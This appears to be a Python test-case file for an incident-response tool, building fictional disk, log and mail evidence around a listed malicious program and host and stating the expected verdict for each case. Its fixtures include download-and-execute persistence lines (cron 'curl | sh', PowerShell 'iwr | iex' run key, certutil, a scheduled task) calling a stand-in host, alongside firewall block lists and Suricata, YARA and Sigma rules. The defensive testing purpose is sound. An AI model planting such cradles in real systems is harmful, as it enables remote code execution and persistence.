"""Machines at rest: the listed program, what calls a listed name by itself, and what only mentions one."""
import gzip
import io
import tarfile
import zipfile
from house import BAD, NAME, NOT_SEEN, PROGRAM, SHA256, TARGETED, URL, Case, advisory, affected, at, ordinary_flows, said, DAYS
from flows import fortigate, log as flow_log
from names import bind, log as name_log, ordinary as names_asked
from web import browsing, log as web_log, squid

# A whole spring of the network, and the disk of one machine.
NETWORK = {'logs/edge.log': flow_log(fortigate, ordinary_flows()), 'logs/query.log': name_log(bind, names_asked()),
           'logs/proxy.log': web_log(squid, browsing())}
DISK = {'ws41/etc/hostname': 'ws41\n', 'ws41/etc/hosts': '127.0.0.1 localhost\n10.20.3.41 ws41\n', 'ws41/home/chem/notes.txt': 'Buffer 12 is used up; order more.\n',
        'ws41/usr/local/bin/backup.sh': '#!/bin/sh\nrsync -a /home backup.hospital.example::home\n', 'ws41/etc/crontab': '17 * * * * root /usr/local/bin/backup.sh\n'}
LABEL = '[ws41-disk]\npath = evidence/ws41\nhost = ws41\n'
MENTION = said('not-seen', machines=[], no_finding=[{'class': 'compromise'}, {'class': 'attempt'}])


def zipped(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            z.writestr(name.replace('__', '.'), content)
    return out.getvalue()


def tarred(name, content):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w:gz') as t:
        member = tarfile.TarInfo(name)
        member.size = len(content)
        t.addfile(member, io.BytesIO(content))
    return out.getvalue()


def disk(sentence, files, expect, published=None, conf=LABEL, network=True):
    return Case(sentence, {**(NETWORK if network else {}), **DISK, **files}, expect, published, conf=conf)


def programs():
    here = affected('strong', 'ws41', findings=[{'outcome': 'at-rest'}])
    path = 'ws41/home/chem/.cache/agentd'
    yield disk('A machine that holds the listed program is AFFECTED, strong', {path: PROGRAM}, here)
    yield disk('A program that differs in one byte is NOT SEEN', {path: PROGRAM + b'\n'}, NOT_SEEN)
    yield disk('The listed program inside a zip is AFFECTED', {'ws41/home/chem/p.zip': zipped(a__bin=PROGRAM)}, here)
    yield disk('The listed program inside a tar in a zip is AFFECTED', {'ws41/home/chem/p.zip': zipped(p__tgz=tarred('x/agentd', PROGRAM))}, here)
    yield disk('A zip with another program is NOT SEEN', {'ws41/home/chem/p.zip': zipped(a__bin=PROGRAM[:-1])}, NOT_SEEN)
    yield disk('The listed program under gzip is AFFECTED', {'ws41/tmp/a.gz': gzip.compress(PROGRAM)}, here)
    yield disk('A folder that is merely called quarantine excuses nothing', {'ws41/quarantine/agentd': PROGRAM}, here)
    store = LABEL + '[av-store]\npath = evidence/store\nrole = quarantine\n'
    yield disk('The listed program in a store that is labelled quarantine is TARGETED', {'store/0001.bin': PROGRAM}, TARGETED, conf=store)
    lab = LABEL + '[malware-lab]\npath = evidence/lab\nrole = lab\n'
    yield disk('The listed program in a labelled lab is SEEN, AND EXPLAINED', {'lab/sample.bin': PROGRAM}, said('explained', machines=[]), conf=lab)
    backup = LABEL + '[backup-ws12]\npath = evidence/backup\nrole = backup\nhost = ws12\n'
    yield disk('A backup excuses nothing and names its machine', {'backup/agentd': PROGRAM}, affected('strong', 'ws12'), conf=backup)
    yield disk('The hash as text in a note is a mention', {'ws41/home/chem/hash.txt': f'We were told to look for a program. Its hash is {SHA256}.\nAsk the people of IT tomorrow. They know how to search for it on all machines.\n'}, MENTION)
    yield disk('Disks alone answer for files, and the page says what else they cannot show', {}, said('not-seen', machines=[], says=['resolver']), network=False)
    yield disk('Disks alone cannot answer an advisory that lists names only', {}, said('inconclusive', machines=[], open=['evidence-missing']),
               {'advisory.txt': advisory('names')}, network=False)
    yield disk('Disks alone answer an advisory that lists only files', {}, NOT_SEEN, {'advisory.txt': advisory('hashes')}, network=False)


def calls():
    """Places where a string is no mention: the machine calls by itself."""
    here = affected('weak/moderate/strong', 'ws41')
    address = {'advisory.txt': advisory('addresses', 'names', 'urls')}
    for what, path, text in [
            ('cron job', 'ws41/etc/cron.d/up', f'*/5 * * * * root curl -s http://{NAME}/x | sh\n'),
            ('crontab of a person', 'ws41/var/spool/cron/crontabs/chem', f'# m h dom mon dow command\n0 3 * * * wget -q {URL} -O /tmp/p\n'),
            ('systemd unit', 'ws41/etc/systemd/system/up.service', f'[Unit]\nDescription=Update\n[Service]\nExecStart=/usr/bin/curl -s http://{NAME}/x\n[Install]\nWantedBy=multi-user.target\n'),
            ('shell script', 'ws41/usr/local/bin/up.sh', f'#!/bin/sh\ncurl -s http://{NAME}/x | sh\n'),
            ('shell history', 'ws41/home/chem/.bash_history', f'ls\ncurl -O {URL}\nunzip programme.zip\n'),
            ('PowerShell script', 'ws41/Users/chem/up.ps1', f"$c = New-Object Net.WebClient\n$c.DownloadFile('{URL}', \"$env:TEMP\\p.zip\")\nStart-Process \"$env:TEMP\\p.zip\"\n"),
            ('batch file', 'ws41/Users/chem/up.bat', f'@echo off\r\ncertutil -urlcache -f {URL} p.zip\r\n'),
            ('run key', 'ws41/export.reg', 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n'
             f'"Update"="powershell -c \\"iwr http://{NAME}/x | iex\\""\r\n'),
            ('scheduled task', 'ws41/Windows/System32/Tasks/Up', '<?xml version="1.0"?>\n<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec>'
             f'<Command>curl.exe</Command><Arguments>-s http://{NAME}/x</Arguments></Exec></Actions></Task>\n'),
            ('defanged address that a script makes whole', 'ws41/usr/local/bin/c.sh', f"#!/bin/sh\ncurl -s $(echo {NAME.replace('.', '[.]')} | tr -d '[]')/x\n")]:
        yield disk(f'A {what} that fetches from a listed place is AFFECTED', {path: text}, here, address)


WIKI = f'''# Incident of May

The county office told us of a new actor. The network team blocks these since 12 May:

- `{NAME.replace(".", "[.]")}`
- {BAD.replace(".", "[.]")}

## What is left to do

Ask the ward for the list of tablets. Nobody has looked at them yet.
'''


def mentions():
    """Places where it stands to be kept out, or is only spoken of."""
    for what, path, text in [
            ('hosts entry', 'ws41/etc/hosts', f'127.0.0.1 localhost\n0.0.0.0 {NAME}\n'),
            ('response policy zone', 'ns1/rpz.zone', f'$TTL 60\n@ SOA localhost. root.localhost. 1 1h 15m 30d 2h\n  NS localhost.\n{NAME} CNAME .\n*.{NAME} CNAME .\n'),
            ('rule of Suricata', 'ids/local.rules', f'alert tcp $HOME_NET any -> {BAD} any (msg:"C2"; sid:1; rev:1;)\nalert dns any any -> any any (msg:"C2"; dns.query; content:"{NAME}"; sid:2; rev:1;)\n'),
            ('rule that drops', 'fw/rules.v4', f'*filter\n:INPUT ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\n-A OUTPUT -d {BAD}/32 -j DROP\n-A INPUT -s {BAD}/32 -j DROP\nCOMMIT\n'),
            ('nftables set that drops', 'fw/nftables.conf', f'table inet filter {{\n  set bad {{ type ipv4_addr; elements = {{ {BAD} }} }}\n  chain out {{ type filter hook output priority 0; ip daddr @bad drop }}\n}}\n'),
            ('Unbound zone', 'ns1/block.conf', f'server:\n  local-zone: "{NAME}" always_nxdomain\n  local-zone: "other.example" always_nxdomain\n'),
            ('dnsmasq answer', 'ns1/block.conf', f'address=/{NAME}/0.0.0.0\naddress=/other.example/0.0.0.0\n'),
            ('Squid list', 'proxy/deny.acl', f'.{NAME}\n' + ''.join(f'.shop{n}.example\n' for n in range(40))),
            ('Pi-hole list', 'ns1/gravity.list', f'{NAME}\n' + ''.join(f'ads{n}.example\n' for n in range(400))),
            ('list of indicators', 'soc/ioc.csv', f'type,value,comment\nip,{BAD},Lantern Moth\ndomain,{NAME},Lantern Moth\nsha256,{SHA256},agent\n'),
            ('rule of YARA', 'soc/moth.yar', f'rule moth {{ meta: hash = "{SHA256}" strings: $a = "{NAME}" $b = "{BAD}" condition: any of them }}\n'),
            ('Sigma rule', 'soc/moth.yml', f'title: Lantern Moth\nstatus: test\nlogsource:\n  category: dns\ndetection:\n  selection:\n    query: {NAME}\n  condition: selection\n'),
            ('note', 'ws41/home/chem/todo.txt', f'Colleagues say that {BAD} is a bad server. Ask IT tomorrow.\n'),
            ('wiki page', 'wiki/incident.md', WIKI),
            ('script that denies', 'fw/deny.sh', f'#!/bin/sh\niptables -A OUTPUT -d {BAD} -j DROP\nip route add blackhole {BAD}\n')]:
        yield disk(f'A {what} that names what is listed is a mention', {path: text}, MENTION)


def mail(subject, body, sender='colleague@hospital.example', more='', day='Mon, 12 Apr 2021 09:00:00 +0000'):
    return (f'Return-Path: <{sender}>\nReceived: from mx.example.org (mx.example.org [198.51.100.25]) by mail.hospital.example with ESMTP id 4711; {day}\n'
            f'From: Someone <{sender}>\nTo: Chem Lab <chem.lab@hospital.example>\nSubject: {subject}\nDate: {day}\nMessage-ID: <{abs(hash(subject)) % 10 ** 6}@example.org>\n{more}\n{body}\n')


def mbox(*messages):
    ordinary = [mail(f'Minutes {n}', 'See the minutes of today.', day=f'{at(n):%a, %d %b %Y %H:%M:%S} +0000') for n in range(1, DAYS + 1, 4)]
    return ''.join(f'From someone@example.org Mon Apr 12 09:00:00 2021\n{m}\n' for m in [*ordinary, *messages])


def attached(name, content):
    import base64
    return ('MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b1"\n', '--b1\nContent-Type: text/plain\n\nPlease see the file.\n'
            f'--b1\nContent-Type: application/octet-stream; name="{name}"\nContent-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="{name}"\n\n'
            + base64.encodebytes(content).decode() + '--b1--\n')


def letters():
    def ask(sentence, message, expect, conf=LABEL, path='mail/chem.mbox'):
        return Case(sentence, {**NETWORK, **DISK, path: mbox(message) if message else mbox()}, expect, conf=conf)
    html = 'MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n'
    wrapped = f'https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F{NAME}%2Fx&data=05%7C01&sdata=abc&reserved=0'
    head, body = attached('programme.bin', PROGRAM)
    zhead, zbody = attached('programme.zip', zipped(programme__bin=PROGRAM))
    sent = said('targeted', machines=[], findings=[{'class': 'attempt'}])
    yield ask('A mailbox without anything listed is NOT SEEN', '', NOT_SEEN)
    yield ask('A message with a listed link is TARGETED', mail('Programme', f'Please read http://{NAME}/programme today.'), sent)
    yield ask('A listed link behind other words is TARGETED', mail('Programme', f'<p>Please <a href="http://{NAME}/p">read it here</a>.</p>', more=html), sent)
    yield ask('A listed link inside the wrapper of a mail filter is TARGETED', mail('Programme', f'<p><a href="{wrapped.replace("&", "&amp;")}">read</a></p>', more=html), sent)
    yield ask('A message from the listed sender is TARGETED', mail('Conference', 'Please come.', sender='programme@moth-conference.net'), sent)
    yield ask('A message with the listed program attached is TARGETED', mail('Programme', body, more=head), sent)
    yield ask('The program inside a zip attached is TARGETED', mail('Programme', zbody, more=zhead), sent)
    yield ask('A message that warns of the name, defanged, is a mention', mail('Warning', f'Do not open {NAME.replace(".", "[.]")}, says the CERT.'), MENTION)
    held = LABEL + '[gateway-held]\npath = evidence/held\nrole = quarantine\n'
    yield ask('A message that the gateway held is TARGETED and is said to be held', mail('Programme', body, more=head),
              said('targeted', machines=[], findings=[{'outcome': 'quarantined'}]), conf=held, path='held/held.mbox')
    yield ask('A copy of the advisory that was mailed round is set aside', mail('Fwd: advisory', advisory()), said('not-seen', machines=[], no_finding=[{'class': 'attempt'}, {'class': 'compromise'}]))


def cases():
    yield from programs()
    yield from calls()
    yield from mentions()
    yield from letters()
